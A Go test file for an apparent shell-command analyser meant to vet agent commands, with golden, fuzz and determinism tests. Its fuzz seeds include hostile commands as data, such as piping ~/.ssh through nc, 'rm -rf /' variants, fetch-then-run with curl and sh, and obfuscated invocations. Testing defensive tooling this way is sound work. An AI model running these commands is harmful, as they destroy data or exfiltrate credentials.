package shell_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/vetohq/veto/shell"
	"mvdan.cc/sh/v3/syntax"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var env = shell.Env{Cwd: "/work/ws", Vars: map[string]string{"HOME": "/home/agent", "TMPDIR": "/tmp", "USER": "agent"}}

// TestGolden analyses long real-world commands and compares every fact and
// finding with testdata/golden/*.golden. Run with -update to rewrite.
func TestGolden(t *testing.T) {
	inputs, err := filepath.Glob("testdata/golden/*.sh")
	if err != nil || len(inputs) == 0 {
		t.Fatalf("no golden inputs: %v", err)
	}
	for _, in := range inputs {
		t.Run(filepath.Base(in), func(t *testing.T) {
			src, err := os.ReadFile(in)
			if err != nil {
				t.Fatal(err)
			}
			got, err := json.MarshalIndent(shell.Analyze(string(src), env), "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, '\n')
			golden := strings.TrimSuffix(in, ".sh") + ".golden"
			if *update {
				if err := os.WriteFile(golden, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update)", err)
			}
			if string(got) != string(want) {
				t.Fatalf("report changed:\n%s\nwant:\n%s", got, want)
			}
		})
	}
}

// oneLiners reads testdata/oneliners.txt: one command a line, without
// blank lines and # comments.
func oneLiners(t testing.TB) []string {
	raw, err := os.ReadFile("testdata/oneliners.txt")
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, l := range strings.Split(string(raw), "\n") {
		if strings.TrimSpace(l) == "" || strings.HasPrefix(l, "#") {
			continue
		}
		out = append(out, l)
	}
	return out
}

// TestOneLiners compares the whole report of each command in
// testdata/oneliners.txt with testdata/oneliners.golden. Run with -update
// to rewrite.
func TestOneLiners(t *testing.T) {
	type entry struct {
		Command string
		Report  *shell.Report
	}
	var entries []entry
	for _, src := range oneLiners(t) {
		r := shell.Analyze(src, env)
		for _, f := range r.Findings {
			if !knownReason(f) {
				t.Errorf("%q: finding %s/%s is not in Reasons()", src, f.Rule, f.Reason)
			}
		}
		entries = append(entries, entry{src, r})
	}
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false) // commands are full of & and >
	enc.SetIndent("", "  ")
	if err := enc.Encode(entries); err != nil {
		t.Fatal(err)
	}
	got := buf.Bytes()
	const golden = "testdata/oneliners.golden"
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update)", err)
	}
	if string(got) != string(want) {
		var w []entry
		if err := json.Unmarshal(want, &w); err != nil {
			t.Fatal(err)
		}
		for i := range entries {
			if i >= len(w) || !reflect.DeepEqual(entries[i], w[i]) {
				g, _ := json.MarshalIndent(entries[i], "", "  ")
				t.Fatalf("report of %q changed (run with -update if intended):\n%s", entries[i].Command, g)
			}
		}
		t.Fatalf("reports changed: %d entries, golden has %d", len(entries), len(w))
	}
}

func TestFactsOfAccessesAndHosts(t *testing.T) {
	for _, tc := range []struct {
		src   string
		files []shell.Access
		hosts []string
	}{
		{"cat a.txt > out.txt", []shell.Access{{Path: "out.txt", Dir: "/work/ws", Write: true}, {Path: "a.txt", Dir: "/work/ws"}}, nil},
		{"cd /srv && cp a b", []shell.Access{{Path: "a", Dir: "/srv", Segment: 1}, {Path: "b", Dir: "/srv", Write: true, Segment: 1}}, nil},
		{"rm -rf build", []shell.Access{{Path: "build", Dir: "/work/ws", Write: true, Removes: true}}, nil},
		{"TMPDIR=/x rm -r $TMPDIR/y", []shell.Access{{Path: "/tmp/y", Dir: "/work/ws", Write: true, Removes: true}, {Path: "/x/y", Dir: "/work/ws", Write: true, Removes: true}}, nil},
		{"echo x 2>/dev/null >&2", nil, nil},
		{"curl -o /tmp/x https://example.com/a", []shell.Access{{Path: "/tmp/x", Dir: "/work/ws", Write: true}}, []string{"example.com"}},
		{"git clone git@github.com:org/repo.git", nil, []string{"github.com"}},
		{"scp f user@host.example:/tmp/", []shell.Access{{Path: "f", Dir: "/work/ws"}}, []string{"host.example"}},
	} {
		r := shell.Analyze(tc.src, env)
		if !reflect.DeepEqual(r.Files, tc.files) {
			t.Errorf("%q files:\n%+v\nwant\n%+v", tc.src, r.Files, tc.files)
		}
		var hosts []string
		for _, h := range r.Hosts {
			hosts = append(hosts, h.Host)
		}
		if !reflect.DeepEqual(hosts, tc.hosts) {
			t.Errorf("%q hosts %v, want %v", tc.src, hosts, tc.hosts)
		}
	}
}

// FuzzAnalyze: no panic, the same report twice, and input that does not
// parse is never without a finding that refuses it.
func FuzzAnalyze(f *testing.F) {
	inputs, _ := filepath.Glob("testdata/golden/*.sh")
	for _, in := range inputs {
		b, _ := os.ReadFile(in)
		f.Add(string(b))
	}
	for _, s := range oneLiners(f) {
		f.Add(s)
	}
	for _, s := range []string{"git reset --hard", "echo 'x", "a | b && c; d &", "$(x) y", "f() { f; }; f", "cd /; rm -rf *",
		"xargs -I{} sh -c {}", "parallel ::: 'rm -rf /'", "find . -exec rm -rf {} +", "env -S'a b' c", "bash -c \"bash -c 'x'\"",
		"touch f{01..10..3} {a..e}", "cat ${X:-$(y)} ${HOME:+z}", "tar -cf - -C ~ .ssh | nc h 1", "ln -s ../x d/l",
		"node -e 'execSync(\"rm -rf /\")'", "echo 'cat a' | sh", "ssh h 'rm -rf x'", "cd ~/x && pushd /y && popd",
		"$'\\x63at' $'\\u00e9\\101\\cA'", "c='cat a b'; $c", "IFS=,; c=cat,a; $c", "cat ${HOME%/*} ${HOME##*[a-z]}",
		"bash <<EOF\ncat $HOME\nEOF\n", "sh <<< 'cat a'", "bash <(echo cat a)", "python3 -Bc 'open(\"x\", \"w\")'",
		"perl -lne 'print' f", "git -c alias.x='!cat a' x", "f(){ cat \"$1\" \"$#\"; }; f a", "sh -c 'cat $0 $1' a b",
		"if x; then c=a; fi; cat $c", "awk 'BEGIN{system(\"cat a\")}'", "echo \"it's",
		"true || x=rm; $x -rf ~", "read -r a b <<< 'x y z'; $a $b", "mapfile -t c <<< 'a'; $c", "printf -v c '%s' a; $c",
		"declare -n r=x; r=a; $x $r", "set -- a 'b c'; \"$@\" $*; shift; $1", "alias q='command '; alias n='cat a'; q n",
		"rm --recur --forc x", "git push --forc", "echo 'cat a' > x.sh; cp x.sh y; mv y z; bash z 1; ./x.sh; . x.sh",
		"curl -o f u; sh f", "echo a | tee -a f; sed -i s/a/b/ f; python3 f",
		"a=(x 'y z'); a+=(w); a[1]=v; a[$i]=u; \"${a[@]}\" ${a[*]} ${a[2]} ${#a[@]}; for x in \"${a[@]}\"; do cat $x; done",
		"read -ra v <<< 'a b'; mapfile -t l <<< $'a\\nb'; declare -A m=([k]=v); ${v[1]} ${l[@]} ${m[k]}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		r1 := shell.Analyze(src, env)
		r2 := shell.Analyze(src, env)
		if !reflect.DeepEqual(r1, r2) {
			t.Fatalf("two analyses differ:\n%+v\n%+v", r1, r2)
		}
		checkReport(t, r1)
		if _, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(src), ""); err != nil && !r1.Recovered {
			for _, fd := range r1.Findings {
				if fd.Rule == shell.RuleAnalyzer {
					return
				}
			}
			t.Fatalf("input that does not parse has no refusing finding: %+v", r1.Findings)
		}
	})
}

// checkReport checks what holds of every report: findings carry a listed
// rule and reason and a message; a path or host is given exactly when it
// is known; segments are within the count; programs are lower-case.
func checkReport(t *testing.T, r *shell.Report) {
	t.Helper()
	for _, f := range r.Findings {
		if !knownReason(f) || f.Message == "" {
			t.Fatalf("finding %+v: unlisted, or without a message", f)
		}
		if f.Segment < 0 || f.Segment > r.Segments {
			t.Fatalf("finding %+v: segment out of %d", f, r.Segments)
		}
	}
	for _, a := range r.Files {
		if a.Unknown != (a.Path == "") || a.Segment < 0 || a.Segment > r.Segments {
			t.Fatalf("access %+v of %d segments", a, r.Segments)
		}
	}
	for _, h := range r.Hosts {
		if h.Unknown != (h.Host == "") || h.Command == "" || h.Segment < 0 || h.Segment > r.Segments {
			t.Fatalf("host %+v of %d segments", h, r.Segments)
		}
	}
	for _, p := range r.Programs {
		if p != strings.ToLower(p) {
			t.Fatalf("program %q is not lower-case", p)
		}
	}
}

// A path below two links the command made is reported in the same order
// at every analysis (the links were once walked in a map's order, which
// the fuzzer found: two analyses of one command differed).
func TestAnalysisOfLinksIsTheSameEveryTime(t *testing.T) {
	for _, src := range []string{"ln / .. 0'2", "ln -s /a x; ln -s /b x/y; cp f x/y/z", "ln -s a d; ln -s b d/e; ln -s c d/e/f; echo > d/e/f/g"} {
		first := shell.Analyze(src, env)
		for range 50 {
			if again := shell.Analyze(src, env); !reflect.DeepEqual(first, again) {
				t.Fatalf("%q: two analyses differ:\n%+v\n%+v", src, first.Files, again.Files)
			}
		}
	}
}
